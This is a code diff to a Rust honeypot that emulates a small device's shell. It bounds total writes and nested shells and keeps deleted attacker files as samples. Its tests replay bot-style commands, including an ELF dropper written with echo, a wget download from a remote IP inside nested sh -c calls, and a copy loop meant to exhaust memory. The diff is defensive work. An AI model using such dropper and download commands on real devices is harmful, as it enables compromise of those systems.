@@ -22,8 +22,18 @@ use crate::persona::Deployment;
 /// Most bytes of written files a session holds (more gets ENOSPC, as on a
 /// small tmpfs).
 pub const MAX_WRITTEN: usize = 1024 * 1024;
+/// Most bytes a session writes in all, copies and rewrites included (more
+/// gets ENOSPC): a loop of `cp` costs the client a few bytes a line and must
+/// not cost the honeypot gigabytes of copying.
+pub const MAX_WRITTEN_TOTAL: usize = 8 * 1024 * 1024;
+/// Most files written a session keeps as samples after they were removed
+/// or overwritten (bots delete their droppers at once).
+const MAX_REMOVED: usize = 64;
 /// Most bytes of output one line produces.
 pub const MAX_OUTPUT: usize = 64 * 1024;
+/// Most `sh -c` levels run (each level's text is inside the one above,
+/// so the work stays bounded by the line).
+const MAX_DEPTH: u8 = 8;
 /// Most simple commands run from one line.
 const MAX_COMMANDS_PER_LINE: usize = 256;
 
@@ -286,9 +296,12 @@ pub struct Shell {
     files: BTreeMap<String, WrittenFile>,
     made_dirs: BTreeSet<String>,
     written: usize,
-    /// Every path written in this session, with its last contents, even if
-    /// removed since (bots delete their droppers at once).
-    history: BTreeMap<String, Vec<u8>>,
+    /// Bytes written in all (never decreases).
+    written_total: usize,
+    /// Contents of written files since removed or overwritten, at most
+    /// [`MAX_REMOVED`] files and [`MAX_WRITTEN`] bytes.
+    removed: Vec<(String, Vec<u8>)>,
+    removed_bytes: usize,
     uptime: u64,
 }
 
@@ -324,7 +337,9 @@ impl Shell {
             files: BTreeMap::new(),
             made_dirs: BTreeSet::new(),
             written: 0,
-            history: BTreeMap::new(),
+            written_total: 0,
+            removed: Vec::new(),
+            removed_bytes: 0,
             uptime,
         }
     }
@@ -334,10 +349,30 @@ impl Shell {
         self.dep.persona.shell_prompt.clone()
     }
 
-    /// Every file written this session (path, last contents), removed ones
-    /// included.
-    pub fn written_files(&self) -> &BTreeMap<String, Vec<u8>> {
-        &self.history
+    /// Every file written this session (path, contents): those still there,
+    /// and the last contents of those removed or overwritten since (within
+    /// the bounds of [`MAX_REMOVED`] files and [`MAX_WRITTEN`] bytes).
+    pub fn written_files(&self) -> Vec<(&str, &[u8])> {
+        let mut out: Vec<(&str, &[u8])> = self
+            .files
+            .iter()
+            .filter(|(_, f)| !f.bytes.is_empty())
+            .map(|(p, f)| (p.as_str(), f.bytes.as_slice()))
+            .collect();
+        out.extend(self.removed.iter().map(|(p, b)| (p.as_str(), b.as_slice())));
+        out
+    }
+
+    /// Keeps the contents of a file going away, within bounds.
+    fn retire(&mut self, path: &str, bytes: Vec<u8>) {
+        if bytes.is_empty()
+            || self.removed.len() >= MAX_REMOVED
+            || self.removed_bytes + bytes.len() > MAX_WRITTEN
+        {
+            return;
+        }
+        self.removed_bytes += bytes.len();
+        self.removed.push((path.to_string(), bytes));
     }
 
     fn abs(&self, path: &str) -> String {
@@ -404,16 +439,26 @@ impl Shell {
         } else {
             bytes.len()
         };
-        if self.written + new_len > MAX_WRITTEN + old {
+        if self.written + new_len > MAX_WRITTEN + old
+            || self.written_total + bytes.len() > MAX_WRITTEN_TOTAL
+        {
             return Err("-sh: write error: No space left on device\n".into());
         }
         self.written = self.written + new_len - old;
-        let f = self.files.entry(p.clone()).or_default();
+        self.written_total += bytes.len();
+        if !append && old > 0 {
+            let before = self
+                .files
+                .get(&p)
+                .map(|f| f.bytes.clone())
+                .unwrap_or_default();
+            self.retire(&p, before);
+        }
+        let f = self.files.entry(p).or_default();
         if !append {
             f.bytes.clear();
         }
         f.bytes.extend_from_slice(bytes);
-        self.history.insert(p, f.bytes.clone());
         Ok(())
     }
 
@@ -761,6 +806,7 @@ impl Shell {
                     let p = self.abs(a);
                     if let Some(f) = self.files.remove(&p) {
                         self.written -= f.bytes.len();
+                        self.retire(&p, f.bytes);
                     } else if !args.iter().any(|a| a.starts_with('-') && a.contains('f')) {
                         return Io::fail(format!("rm: can't remove '{a}': No such file or directory\n"), 1);
                     }
@@ -874,10 +920,10 @@ impl Shell {
             }
             "sh" | "ash" => {
                 if let (Some("-c"), Some(cmd)) = (args.first().map(|s| s.as_str()), args.get(1)) {
-                    if depth < 2 {
+                    if depth < MAX_DEPTH {
                         self.run_into(cmd, outcome, depth + 1);
                     }
-                } else if let Some(script) = stdin.filter(|_| depth < 2) {
+                } else if let Some(script) = stdin.filter(|_| depth < MAX_DEPTH) {
                     // `wget -O - URL | sh`: the script's lines are what it asks.
                     let text = String::from_utf8_lossy(&script).into_owned();
                     for l in text.lines().take(64) {
@@ -1037,8 +1083,11 @@ mod tests {
         sh.run_line(r"cd /var; echo -ne '\x7f\x45\x4c\x46\x01\x02' > upnp; echo -ne '\x00\x02\x05\x39' >> upnp; chmod 777 upnp; ./upnp; rm upnp");
         let w = sh.written_files();
         assert_eq!(
-            w.get("/var/upnp").unwrap(),
-            &vec![0x7f, b'E', b'L', b'F', 1, 2, 0, 2, 5, 0x39]
+            w,
+            vec![(
+                "/var/upnp",
+                &[0x7f, b'E', b'L', b'F', 1, 2, 0, 2, 5, 0x39][..]
+            )]
         );
         assert_eq!(
             out(&mut sh, "cat /var/upnp"),
@@ -1083,6 +1132,39 @@ mod tests {
         assert!(sh.written <= MAX_WRITTEN);
         let o = sh.run_line(&"cat /proc/cpuinfo;".repeat(2000));
         assert!(o.output.len() <= MAX_OUTPUT);
+    }
+
+    /// A hostile trial: a 512 KiB file copied and removed thousands of times
+    /// from a few bytes of input grew the honeypot by gigabytes. Copies count
+    /// toward the session's bytes, and removed files kept as samples are
+    /// bounded.
+    #[test]
+    fn copy_loops_cannot_amplify_memory() {
+        let mut sh = shell("arm-camera");
+        sh.run_line(&format!("echo -n {} > /tmp/a", "A".repeat(4096)));
+        for _ in 0..7 {
+            sh.run_line("cat /tmp/a /tmp/a > /tmp/b; mv /tmp/b /tmp/a");
+        }
+        let line = (0..100)
+            .map(|i| format!("cp /tmp/a /tmp/c{i};rm /tmp/c{i}"))
+            .collect::<Vec<_>>()
+            .join(";");
+        let mut refused = false;
+        for _ in 0..40 {
+            refused |= out(&mut sh, &line).contains("No space left");
+        }
+        assert!(refused);
+        assert!(sh.written_total <= MAX_WRITTEN_TOTAL);
+        let kept: usize = sh.written_files().iter().map(|(_, b)| b.len()).sum();
+        assert!(kept <= 2 * MAX_WRITTEN, "{kept}");
+        assert!(sh.written_files().len() <= MAX_REMOVED + 8);
+    }
+
+    #[test]
+    fn nested_shells_still_record_downloads() {
+        let mut sh = shell("arm-camera");
+        let r = sh.run_line(r#"sh -c 'sh -c "sh -c \"wget http://11.0.9.6/b\""'"#);
+        assert_eq!(r.downloads.len(), 1, "{:?}", r.commands);
     }
 
     proptest::proptest! {
